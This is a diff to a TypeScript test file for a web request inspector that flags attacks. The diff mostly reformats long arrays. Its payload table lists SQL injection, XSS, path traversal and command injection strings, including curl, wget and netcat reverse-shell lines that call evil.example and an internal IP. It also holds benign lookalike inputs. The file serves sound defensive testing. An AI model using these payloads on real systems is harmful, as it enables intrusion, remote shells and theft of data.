@@ -1,4 +1,4 @@
-import fc from "fast-check";
+import * as fc from "fast-check";
 import { describe, expect, it } from "vitest";
 import { INDICATOR } from "@vedette/semconv";
 import { readSettings } from "../settings.ts";
@@ -34,8 +34,18 @@ describe("decoding", () => {
   });
 
   it("never throws, and reads what encodeURIComponent wrote", () => {
-    fc.assert(fc.property(fc.string({ unit: "grapheme" }), (text) => decodePercent(encodeURIComponent(text.toWellFormed()), true) === text.toWellFormed()));
-    fc.assert(fc.property(fc.array(fc.constantFrom("%", "4", "1", "u", "c0", "%2", "+", "é")), (parts) => typeof decodePercent(parts.join(""), true) === "string"));
+    fc.assert(
+      fc.property(
+        fc.string({ unit: "grapheme" }),
+        (text) => decodePercent(encodeURIComponent(text.toWellFormed()), true) === text.toWellFormed(),
+      ),
+    );
+    fc.assert(
+      fc.property(
+        fc.array(fc.constantFrom("%", "4", "1", "u", "c0", "%2", "+", "é")),
+        (parts) => typeof decodePercent(parts.join(""), true) === "string",
+      ),
+    );
   });
 
   it.each([
@@ -50,23 +60,76 @@ describe("decoding", () => {
 
 const ATTACKS = {
   [INDICATOR.sqlInjection]: [
-    "1' OR '1'='1", "42 or 7=7", "x') or ('a'='a", "admin'--", "admin' #", "9 UNION ALL SELECT name, pass FROM accounts", "9/**/uNiOn/**/sElEcT/**/1,2,3",
-    "1; DROP TABLE carts--", "1'; exec xp_cmdshell('dir')--", "1 AND (SELECT 1 FROM (SELECT SLEEP(3)) t)", "5' AND extractvalue(1, concat(0x5c, user()))-- -",
-    "(select password from accounts limit 1)", "1' order by 7-- -", "7 having 1=1", '" or ""="', "1 || 1=1", "if(1=1,sleep(4),0)", "'; waitfor delay '0:0:9'--",
-    "-1' union select null,@@version,null#", "1 and ascii(substring((select user()),1,1))>64", "1 /*!50000union*/ select 1", "x' into outfile '/srv/a.php", "1) where 3=3 or 4=5",
+    "1' OR '1'='1",
+    "42 or 7=7",
+    "x') or ('a'='a",
+    "admin'--",
+    "admin' #",
+    "9 UNION ALL SELECT name, pass FROM accounts",
+    "9/**/uNiOn/**/sElEcT/**/1,2,3",
+    "1; DROP TABLE carts--",
+    "1'; exec xp_cmdshell('dir')--",
+    "1 AND (SELECT 1 FROM (SELECT SLEEP(3)) t)",
+    "5' AND extractvalue(1, concat(0x5c, user()))-- -",
+    "(select password from accounts limit 1)",
+    "1' order by 7-- -",
+    "7 having 1=1",
+    '" or ""="',
+    "1 || 1=1",
+    "if(1=1,sleep(4),0)",
+    "'; waitfor delay '0:0:9'--",
+    "-1' union select null,@@version,null#",
+    "1 and ascii(substring((select user()),1,1))>64",
+    "1 /*!50000union*/ select 1",
+    "x' into outfile '/srv/a.php",
+    "1) where 3=3 or 4=5",
   ],
   [INDICATOR.xss]: [
-    "<script>alert(1)</script>", "<ScRiPt src=//evil.example/x.js>", "<img src=x onerror=alert(1)>", '" onmouseover="steal()', "<svg/onload=alert`1`>",
-    "javascript:alert(document.domain)", "JaVa&Tab;ScRiPt:alert(1)", "';alert(1)//", '"-confirm(1)-"', "<iframe src=data:text/html;base64,AAAA>", "<a href='&#106;avascript:alert(1)'>x</a>",
-    "<div style='width:expression(alert(1))'>", "<body onload=go()>", "{{constructor.constructor('alert(1)')()}}", "\\u003cscript\\u003ealert(1)", "<details open ontoggle=alert(1)>",
+    "<script>alert(1)</script>",
+    "<ScRiPt src=//evil.example/x.js>",
+    "<img src=x onerror=alert(1)>",
+    '" onmouseover="steal()',
+    "<svg/onload=alert`1`>",
+    "javascript:alert(document.domain)",
+    "JaVa&Tab;ScRiPt:alert(1)",
+    "';alert(1)//",
+    '"-confirm(1)-"',
+    "<iframe src=data:text/html;base64,AAAA>",
+    "<a href='&#106;avascript:alert(1)'>x</a>",
+    "<div style='width:expression(alert(1))'>",
+    "<body onload=go()>",
+    "{{constructor.constructor('alert(1)')()}}",
+    "\\u003cscript\\u003ealert(1)",
+    "<details open ontoggle=alert(1)>",
   ],
   [INDICATOR.pathTraversal]: [
-    "../../etc/passwd", "..\\..\\windows\\win.ini", "....//....//etc/shadow", "/etc/passwd", "..;/..;/manager/html", "php://filter/convert.base64-encode/resource=index", "file:///etc/hosts",
-    "../../../../boot.ini\u0000.png", "/../../../secret", "../../x", "C:\\windows\\system32\\drivers\\etc\\hosts",
+    "../../etc/passwd",
+    "..\\..\\windows\\win.ini",
+    "....//....//etc/shadow",
+    "/etc/passwd",
+    "..;/..;/manager/html",
+    "php://filter/convert.base64-encode/resource=index",
+    "file:///etc/hosts",
+    "../../../../boot.ini\u0000.png",
+    "/../../../secret",
+    "../../x",
+    "C:\\windows\\system32\\drivers\\etc\\hosts",
   ],
   [INDICATOR.commandInjection]: [
-    ";id", "| cat /etc/passwd", "`whoami`", "$(curl http://evil.example/x)", "x; /bin/ls -al", "a && wget http://evil.example/p.sh", "() { :;}; /bin/bash -c 'id'", "a|nc -e /bin/sh 10.0.0.9 4444",
-    "127.0.0.1; sleep 10", "<!--#exec cmd=\"ls\"-->", "& ping -c 5 127.0.0.1 &", "cat$IFS/etc/passwd", "x\nuname -a", "/usr/bin/id",
+    ";id",
+    "| cat /etc/passwd",
+    "`whoami`",
+    "$(curl http://evil.example/x)",
+    "x; /bin/ls -al",
+    "a && wget http://evil.example/p.sh",
+    "() { :;}; /bin/bash -c 'id'",
+    "a|nc -e /bin/sh 10.0.0.9 4444",
+    "127.0.0.1; sleep 10",
+    '<!--#exec cmd="ls"-->',
+    "& ping -c 5 127.0.0.1 &",
+    "cat$IFS/etc/passwd",
+    "x\nuname -a",
+    "/usr/bin/id",
   ],
 } as const;
 
@@ -84,14 +147,82 @@ describe("attacks", () => {
 });
 
 const ORDINARY = [
-  "O'Brien", "O'Connor's union selected a few friends", "rock 'n' roll", "D'or 1st parfum", "Smith & Sons", "AT&T", "C++ and C#", "1 + 1 = 2", "a=b", "x > y and y < z", "what is 2*3?",
-  "select a size", "drop me a line", "union station", "order by phone", "insert coin", "update your profile from the settings page", "the case when it rains", "1-2 days; free returns",
-  '"wood" and "sign" and "polka dots"', "14 1/2\" x 3\"", "5' 10\"", "it's -- well -- fine", "hello; world", "and/or", "not null", "like it or not", "between 5 and 10", "1 having", "8 or 9",
-  "<3", "a < b", "if (x < 3) then y", "<b>bold</b>", "blah <a href=\"/foo\">foo</a>", "on load", "online = yes", "javascript: the good parts", "JavaScript: Basics of JavaScript Language", "user(foo)", "alert the team",
-  "../images/logo.png", "./readme", "file.tar.gz", "v1..v2", "wait... what", "C:\\Users\\ada\\notes.txt", "https://example.org/a/b?c=d&e=f#g", "/products/42", "etc. and so on",
-  "cats & dogs", "fish | chips", "ls 300 lexus", "ping pong", "echo chamber", "find a host", "sleep; eat; repeat", "sort & filter", "id", "time: 12:30; date: 1/2", "$5 (five)", "100% cotton & 50% off", "cat; dog",
-  "user@example.org", "+49 (30) 1234-567", "550e8400-e29b-41d4-a716-446655440000", "eyJhbGciOiJIUzI1NiJ9.e30.ZRrHA1JJJW8opsbCGfG_HACGpVUMN_a9IV7pAx_Zmeo", "2026-11-21T06:32:12Z", "48.8566,2.3522", "[1,2,3]",
-  '{"a":1,"b":"x"}', "café & crème", "naïve d'été", "Ħ'ello", "日本語 'テスト'", "price>=10 and price<=20",
+  "O'Brien",
+  "O'Connor's union selected a few friends",
+  "rock 'n' roll",
+  "D'or 1st parfum",
+  "Smith & Sons",
+  "AT&T",
+  "C++ and C#",
+  "1 + 1 = 2",
+  "a=b",
+  "x > y and y < z",
+  "what is 2*3?",
+  "select a size",
+  "drop me a line",
+  "union station",
+  "order by phone",
+  "insert coin",
+  "update your profile from the settings page",
+  "the case when it rains",
+  "1-2 days; free returns",
+  '"wood" and "sign" and "polka dots"',
+  '14 1/2" x 3"',
+  "5' 10\"",
+  "it's -- well -- fine",
+  "hello; world",
+  "and/or",
+  "not null",
+  "like it or not",
+  "between 5 and 10",
+  "1 having",
+  "8 or 9",
+  "<3",
+  "a < b",
+  "if (x < 3) then y",
+  "<b>bold</b>",
+  'blah <a href="/foo">foo</a>',
+  "on load",
+  "online = yes",
+  "javascript: the good parts",
+  "JavaScript: Basics of JavaScript Language",
+  "user(foo)",
+  "alert the team",
+  "../images/logo.png",
+  "./readme",
+  "file.tar.gz",
+  "v1..v2",
+  "wait... what",
+  "C:\\Users\\ada\\notes.txt",
+  "https://example.org/a/b?c=d&e=f#g",
+  "/products/42",
+  "etc. and so on",
+  "cats & dogs",
+  "fish | chips",
+  "ls 300 lexus",
+  "ping pong",
+  "echo chamber",
+  "find a host",
+  "sleep; eat; repeat",
+  "sort & filter",
+  "id",
+  "time: 12:30; date: 1/2",
+  "$5 (five)",
+  "100% cotton & 50% off",
+  "cat; dog",
+  "user@example.org",
+  "+49 (30) 1234-567",
+  "550e8400-e29b-41d4-a716-446655440000",
+  "eyJhbGciOiJIUzI1NiJ9.e30.ZRrHA1JJJW8opsbCGfG_HACGpVUMN_a9IV7pAx_Zmeo",
+  "2026-11-21T06:32:12Z",
+  "48.8566,2.3522",
+  "[1,2,3]",
+  '{"a":1,"b":"x"}',
+  "café & crème",
+  "naïve d'été",
+  "Ħ'ello",
+  "日本語 'テスト'",
+  "price>=10 and price<=20",
 ];
 
 describe("ordinary values", () => {
@@ -101,12 +232,19 @@ describe("ordinary values", () => {
 
   it("sees nothing in what browsers send", () => {
     const headers = {
-      "user-agent": "Mozilla/5.0 (X11; Linux x86_64; rv:130.0) Gecko/20100101 Firefox/130.0 (.NET CLR 3.5; like 'that')",
+      "user-agent":
+        "Mozilla/5.0 (X11; Linux x86_64; rv:130.0) Gecko/20100101 Firefox/130.0 (.NET CLR 3.5; like 'that')",
       referer: "https://www.search.example/?q=what%27s+new+%26+good&hl=en",
       cookie: 'theme="dark"; _ga=GA1.2.3.4; cart=%7B%22items%22%3A%5B1%2C2%5D%7D; sid=s%3Aabc.def%2Fghi',
       "x-forwarded-for": "192.0.2.1, 198.51.100.7",
     };
-    expect(inspect("/assets/app.min.js;v=3/@scope/it's(1).png", "v=1.2.3&sort=-price&filter[]=a&filter[]=b&empty=&flag", headers)).toEqual({ findings: [], truncatedBy: undefined });
+    expect(
+      inspect(
+        "/assets/app.min.js;v=3/@scope/it's(1).png",
+        "v=1.2.3&sort=-price&filter[]=a&filter[]=b&empty=&flag",
+        headers,
+      ),
+    ).toEqual({ findings: [], truncatedBy: undefined });
   });
 });
 
@@ -121,13 +259,21 @@ describe("a request", () => {
     const places = findings.map(({ indicator, location, parameter }) => `${indicator} ${location} ${parameter}`);
     expect(places).toEqual(
       expect.arrayContaining([
-        "path_traversal path ", "sql_injection query ' or 1=1--", "scanner header user-agent", "xss header referer", "sql_injection cookie track", "command_injection header x-forwarded-for",
+        "path_traversal path ",
+        "sql_injection query ' or 1=1--",
+        "scanner header user-agent",
+        "xss header referer",
+        "sql_injection cookie track",
+        "command_injection header x-forwarded-for",
       ]),
     );
   });
 
   it("marks the value of a secret parameter", () => {
-    expect(inspect("/login", "password=%27%20or%201%3D1--").findings[0]).toMatchObject({ parameter: "password", secret: true });
+    expect(inspect("/login", "password=%27%20or%201%3D1--").findings[0]).toMatchObject({
+      parameter: "password",
+      secret: true,
+    });
   });
 
   it.each([
@@ -164,7 +310,32 @@ describe("seen values", () => {
 });
 
 describe("time", () => {
-  const PIECES = ["'", "''", '"', "(", "<a ", "<", "on", "onload =", "javascript:", "../", "{{alert", "&#", ";", "`", "select ", "union ", " or ", "/*", "--", "\\", "document.", "0x2f", "url(", "(("];
+  const PIECES = [
+    "'",
+    "''",
+    '"',
+    "(",
+    "<a ",
+    "<",
+    "on",
+    "onload =",
+    "javascript:",
+    "../",
+    "{{alert",
+    "&#",
+    ";",
+    "`",
+    "select ",
+    "union ",
+    " or ",
+    "/*",
+    "--",
+    "\\",
+    "document.",
+    "0x2f",
+    "url(",
+    "((",
+  ];
 
   it("is bounded for values made to keep patterns busy", () => {
     // Eight times the longest value that is ever looked at; a pattern that backtracks would need minutes.
